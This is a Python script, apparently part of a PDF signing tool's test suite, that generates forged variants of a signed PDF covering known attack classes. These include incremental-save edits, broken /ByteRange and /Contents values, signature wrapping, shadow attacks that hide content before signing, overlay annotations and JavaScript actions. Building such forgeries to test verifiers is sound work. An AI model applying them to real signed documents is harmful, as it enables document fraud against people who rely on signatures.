#!/usr/bin/env python3
"""Makes forgeries of a signed PDF: every class of attack that is known against signatures in PDF files, each as an update or an
edit that a careless verifier takes for lawful. The file must be as tests/shell/130-sign.sh makes it: objects that are not packed, or
packed only where nothing here touches them.

usage: attack_pdf.py SIGNED.pdf FOLDER      writes FOLDER/<class>.pdf and prints the names
       attack_pdf.py --prepare PLAIN.pdf OUT.pdf    hides another page content in it before somebody signs it
       attack_pdf.py --twice SIGNED.pdf OUT.pdf     names the field of the next signature on the last page, whoever signs it
"""
import os
import re
import sys


TEXT = b'BT /F1 20 Tf 72 700 Td (Evil) Tj ET'
EVIL = b'<</Length %d>>stream\n' % len(TEXT) + TEXT + b'\nendstream'


class Pdf:
    def __init__(self, data):
        self.data = data
        self.prev = int(re.findall(rb'startxref\s+(\d+)', data)[-1])
        self.size = max(int(n) for n in re.findall(rb'/Size (\d+)', data))
        self.root = int(re.findall(rb'/Root (\d+) 0 R', data)[-1])

    def object(self, number):
        """Body and place of the newest writing of an object, which ends where endobj stands."""
        found = list(re.finditer(rb'(?<!\d)%d 0 obj(.*?)endobj' % number, self.data, re.S))
        return found[-1].group(1).strip(), found[-1].start()

    def update(self, objects, places=None, free=(), root=None, head=b'', more=b''):
        """Appends objects {number: body}, cross reference rows {number: place} and freed numbers."""
        out = self.data if self.data.endswith(b'\n') else self.data + b'\n'
        out += head
        rows = dict(places or {})
        for number, body in objects.items():
            rows[number] = len(out)
            out += b'%d 0 obj\n' % number + body + b'\nendobj\n'
        xref = len(out)
        out += b'xref\n'
        for number in sorted(set(rows) | set(free)):
            if number in free:
                out += b'%d 1\n%010d 00001 f \n' % (number, 0)
            else:
                out += b'%d 1\n%010d 00000 n \n' % (number, rows[number])
        size = max([self.size] + [n + 1 for n in rows])
        return out + b'trailer\n<<%s/Size %d /Root %d 0 R /Prev %d>>\nstartxref\n%d\n%%%%EOF\n' % (
            more, size, root or self.root, self.prev, xref)


def attacks(data):
    p = Pdf(data)
    catalog, _ = p.object(p.root)
    signature = max(int(n) for n in re.findall(rb'(\d+) 0 obj\s*<</Type /Sig', data))
    sig, _ = p.object(signature)
    widget = max(int(n) for n in re.findall(rb'(\d+) 0 obj\s*<</Type /Annot', data))
    field, _ = p.object(widget)
    page = int(re.search(rb'/P (\d+) 0 R', field).group(1))
    leaf, _ = p.object(page)
    new = p.size
    with_content = re.sub(rb'/Contents (\d+ 0 R|\[[^]]*\])', b'/Contents %d 0 R' % new, leaf)
    yield 'isa-page', p.update({page: with_content, new: EVIL})
    yield 'isa-content', p.update({int(re.search(rb'/Contents (\d+) 0 R', leaf).group(1)): EVIL})
    yield 'isa-without-xref', data + b'%d 0 obj\n' % page + with_content + b'\nendobj\n'
    yield 'isa-without-trailer', data + b'%d 0 obj\n' % page + with_content + b'\nendobj\n%%EOF\n'
    yield 'isa-catalog', p.update({p.root: catalog[:-2] + b'/Evil true>>'})
    yield 'isa-pages', p.update({new: b'<</Type /Pages /Kids [%d 0 R] /Count 1>>' % (new + 1), new + 1: with_content.replace(b'%d 0 R' % new, b'%d 0 R' % (new + 2)),
        new + 2: EVIL, p.root: re.sub(rb'/Pages \d+ 0 R', b'/Pages %d 0 R' % new, catalog)})
    yield 'isa-copied-signature', p.update({page: with_content, new: EVIL, new + 1: sig, widget: re.sub(rb'/V \d+ 0 R', b'/V %d 0 R' % (new + 1), field)})
    yield 'isa-second-field', p.update({new + 2: re.sub(rb'/V \d+ 0 R', b'/V %d 0 R' % (new + 1), field).replace(b'/T ', b'/T (x) /TU '), new + 1: sig,
        page: re.sub(rb'/Annots \[', b'/Annots [%d 0 R ' % (new + 2), leaf)})
    for name, old, put in (
            ('contents-missing', rb'/Contents <[0-9a-f]*>', b''), ('contents-null', rb'/Contents <[0-9a-f]*>', b'/Contents null'),
            ('contents-zero', rb'/Contents <[0-9a-f]*>', b'/Contents <00>'), ('contents-empty', rb'/Contents <[0-9a-f]*>', b'/Contents <>'),
            ('range-missing', rb'/ByteRange \[[^]]*\]', b''), ('range-null', rb'/ByteRange \[[^]]*\]', b'/ByteRange null'),
            ('range-negative', rb'/ByteRange \[[^]]*\]', b'/ByteRange [0 -1 -1 10]'), ('range-short', rb'/ByteRange \[[^]]*\]', b'/ByteRange [0 10 20 10]'),
            ('range-empty', rb'/ByteRange \[[^]]*\]', b'/ByteRange []'), ('subfilter-none', rb'/SubFilter /[A-Za-z.]+', b'')):
        yield 'usf-' + name, p.update({signature: re.sub(old, put, sig)})
    yield 'usf-value-null', p.update({signature: b'null'})
    yield 'usf-value-name', p.update({signature: b'/Sig'})
    gap = list(re.finditer(rb'/Contents <([0-9a-f]*?)(0{2000,})>', data))[-1]
    first, rest = data[:gap.start(2)], data[gap.end():]
    start, count = [int(x) for x in re.findall(rb'/ByteRange \[\d+ (\d+) \d+ (\d+)', data)[-1]]
    room = len(gap.group(2))
    filler = b'>/ByteRange [0 %d %d %d] %d 0 obj' % (start, len(data), count, page) + with_content + b'endobj '
    yield 'swa-second-range', first + filler + b' ' * (room + 1 - len(filler)) + rest + data[-count:]
    yield 'swa-junk-in-gap', first + b'>' + b' ' * (room - 1) + b' ' + rest
    yield 'swa-bytes-behind-cms', first + b'41' + gap.group(2)[2:] + b'>' + rest
    yield 'shadow-free', p.update({}, free=(int(re.search(rb'/Contents (\d+) 0 R', leaf).group(1)),))
    yield 'shadow-root', p.update({new: catalog}, root=new)
    yield 'shadow-other-object', p.update({}, places={page: p.object(widget)[1]})
    hidden = data.find(b' 0 obj\n' + EVIL)
    if hidden >= 0:
        number = re.search(rb'(\d+)$', data[:hidden])
        yield 'shadow-replace', p.update({}, places={int(number.group(1)): number.start()})
    yield 'eaa-note', p.update({new: b'<</Type /Annot /Subtype /FreeText /Rect [0 0 400 400] /Contents (Evil)>>',
        page: re.sub(rb'/Annots \[', b'/Annots [%d 0 R ' % new, leaf) if b'/Annots [' in leaf else leaf[:-2] + b'/Annots [%d 0 R]>>' % new})
    yield 'eaa-note-behind', p.update({new: b'<</Type /Annot /Subtype /Stamp /Rect [0 0 400 400]>>', page: re.sub(rb'(/Annots \[[^]]*)\]', rb'\1 %d 0 R]' % new, leaf)})
    look = b'<</Type /XObject /Subtype /Form /BBox [0 0 400 200] /Resources <<>> /Length %d>>stream\n' % len(TEXT) + TEXT + b'\nendstream'
    carried = re.sub(rb'/AP\s*<<.*?>>', b'', re.sub(rb'/Rect \[[^]]*\]', b'/Rect [72 600 472 800]', field)).replace(b'/T ', b'/T (x) /TU ')
    yield 'eaa-carried', p.update({new: carried[:-2] + b'/AP <</N %d 0 R>> >>' % (new + 1), new + 1: look,
        page: re.sub(rb'(/Annots \[[^]]*)\]', rb'\1 %d 0 R]' % new, leaf)})
    yield 'ssa-empty-field', p.update({new: b'<</Type /Annot /Subtype /Widget /FT /Sig /T (late) /Rect [0 0 595 842] /P %d 0 R>>' % page,
        page: re.sub(rb'(/Annots \[[^]]*)\]', rb'\1 %d 0 R]' % new, leaf)})
    yield 'ssa-moved-widget', p.update({widget: re.sub(rb'/Rect \[[^]]*\]', b'/Rect [0 0 300 400]', field)})
    yield 'ssa-action', p.update({widget: field[:-2] + b'/A <</S /JavaScript /JS (app.alert)>> >>'})
    yield 'form-text-field', p.update({new: b'<</FT /Tx /T (sum) /V (1)>>', p.root: re.sub(rb'/AcroForm \d+ 0 R', b'/AcroForm <</Fields [%d 0 R %d 0 R] /SigFlags 3>>' % (widget, new), catalog)})
    yield 'form-appearances', p.update({p.root: re.sub(rb'/AcroForm \d+ 0 R', b'/AcroForm <</Fields [%d 0 R] /SigFlags 3 /NeedAppearances true>>' % widget, catalog)})
    yield 'strip-form', p.update({p.root: re.sub(rb'/AcroForm \d+ 0 R', b'', catalog)})
    yield 'strip-fields', p.update({p.root: re.sub(rb'/AcroForm \d+ 0 R', b'/AcroForm <</Fields []>>', catalog)})
    yield 'strip-value', p.update({widget: re.sub(rb'/V \d+ 0 R', b'', field)})
    yield 'strip-widget', p.update({page: re.sub(rb'/Annots \[[^]]*\]', b'', leaf), widget: b'null'})
    yield 'junk-behind', data + b'junk'
    yield 'junk-zip', data + b'PK\x03\x04'
    yield 'junk-before', b'junk\n' + data
    yield 'second-end', data + b'%%EOF\n'
    yield 'encrypt', p.update({}, more=b'/Encrypt <</Filter /Standard>> ')
    yield 'one-byte', data.replace(b'%PDF-1.', b'%PDF-1.', 1)[:20] + bytes([data[20] ^ 1]) + data[21:]
    yield 'digest-content', data.replace(b'/Rect [0 0 0 0]', b'/Rect [0 0 0 1]', 1)
    yield 'action-open', p.update({p.root: catalog[:-2] + b'/OpenAction <</S /JavaScript /JS (app.alert)>> >>'})
    yield 'names-script', p.update({p.root: catalog[:-2] + b'/Names <</JavaScript <</Names []>> >> >>'})
    yield 'perms', p.update({p.root: catalog[:-2] + b'/Perms <</DocMDP %d 0 R>> >>' % signature})


def prepare(data):
    """The hidden content stands in the file under the number of the real one, and no cross reference tells of it."""
    p = Pdf(data)
    content = int(re.findall(rb'/Contents (\d+) 0 R', data)[0])
    return p.update({p.size: b'null'}, head=b'%d 0 obj\n' % content + EVIL + b'\nendobj\n')


def twice(data):
    """Whoever signs OUT gets the field of the number after next; it is shown on the last page too, beside its own."""
    p = Pdf(data)
    page = max(int(n) for n in re.findall(rb'(\d+) 0 obj\s*<</Type ?/Page\W', data))
    leaf, _ = p.object(page)
    return p.update({page: leaf[:-2] + b'/Annots [%d 0 R]>>' % (p.size + 1)})


def main():
    if sys.argv[1] == '--prepare':
        open(sys.argv[3], 'wb').write(prepare(open(sys.argv[2], 'rb').read()))
        return
    if sys.argv[1] == '--twice':
        open(sys.argv[3], 'wb').write(twice(open(sys.argv[2], 'rb').read()))
        return
    data = open(sys.argv[1], 'rb').read()
    os.makedirs(sys.argv[2], exist_ok=True)
    for name, made in attacks(data):
        if made == data:
            sys.exit(f'{name}: changes nothing')
        open(os.path.join(sys.argv[2], name + '.pdf'), 'wb').write(made)
        print(name)


main()
